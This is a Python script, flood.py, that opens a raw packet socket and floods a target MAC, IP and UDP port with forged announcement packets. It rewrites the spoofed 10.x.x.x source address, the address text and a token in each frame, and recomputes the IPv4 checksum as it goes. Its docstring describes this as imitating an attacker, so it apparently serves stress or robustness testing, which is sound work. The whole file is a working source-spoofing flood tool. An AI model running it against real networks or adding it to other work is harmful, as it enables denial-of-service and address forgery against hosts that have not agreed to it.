# SPDX-License-Identifier: Apache-2.0
"""Sends announcements of ever new machines from ever new addresses, as an attacker forges them.

flood.py INTERFACE: each line of the standard input has a destination as MAC and IPv4 address, a
UDP port, seconds, packets a second, and the payload of one machine in hexadecimal digits. That
machine has the address 10.142.142.142 and the token 000000000042; each packet is that of another
one. Afterwards it prints how many were sent, and in how many seconds.
"""
import socket
import struct
import sys
import time

ADDRESS = "10.142.142.142"
TOKEN = b"000000000042"
HEADERS = 42  # of Ethernet, IPv4 and UDP
CHECKSUM = 24
SENDER = 26
FIRST, COUNT = 100, 155  # the bytes of addresses have three digits each
BURST = 500


def places(payload, mark):
    """Returns where a mark is in the frame of a payload."""
    found = []
    at = payload.find(mark)
    while at >= 0:
        found.append(HEADERS + at)
        at = payload.find(mark, at + len(mark))
    return found


def flood(link, mac, to, port, seconds, rate, payload):
    """Sends for some seconds; returns how many packets were sent, and how long it took."""
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28 + len(payload), 0, 0, 255, 17, 0, bytes(4),
                         socket.inet_aton(to))
    constant = sum(struct.unpack("!10H", header))
    udp = struct.pack("!HHHH", port, port, 8 + len(payload), 0)  # without a checksum
    frame = bytearray(mac + link.getsockname()[4] + b"\x08\x00" + header + udp + payload)
    tokens = places(payload, TOKEN)
    texts = places(payload, ADDRESS.encode())
    addresses = [SENDER] + places(payload, socket.inet_aton(ADDRESS))
    begin = time.monotonic()
    number = 0
    sent = 0
    while time.monotonic() - begin < seconds:
        due = int((time.monotonic() - begin) * rate)
        if number >= due:
            time.sleep(0.0005)
        for number in range(number, min(due, number + BURST)):
            b = FIRST + number // COUNT // COUNT % COUNT
            c = FIRST + number // COUNT % COUNT
            d = FIRST + number % COUNT
            for at in addresses:
                frame[at:at + 4] = bytes((10, b, c, d))
            for at in texts:
                frame[at:at + 14] = b"10.%d.%d.%d" % (b, c, d)
            for at in tokens:
                frame[at:at + 12] = b"%012d" % number
            total = constant + (10 << 8 | b) + (c << 8 | d)
            total = (total & 0xFFFF) + (total >> 16)
            total = (total & 0xFFFF) + (total >> 16)
            frame[CHECKSUM:CHECKSUM + 2] = struct.pack("!H", ~total & 0xFFFF)
            try:
                link.send(frame)
                sent += 1
            except OSError:
                pass  # the other host's network card drops it
            number += 1
    return sent, time.monotonic() - begin


def main():
    """Floods once for each line."""
    link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    link.bind((sys.argv[1], 0))
    for line in sys.stdin:
        mac, to, port, seconds, rate, payload = line.split()
        sent, took = flood(link, bytes.fromhex(mac), to, int(port), float(seconds), int(rate),
                           bytes.fromhex(payload))
        print(sent, round(took, 3), flush=True)


if __name__ == "__main__":
    main()
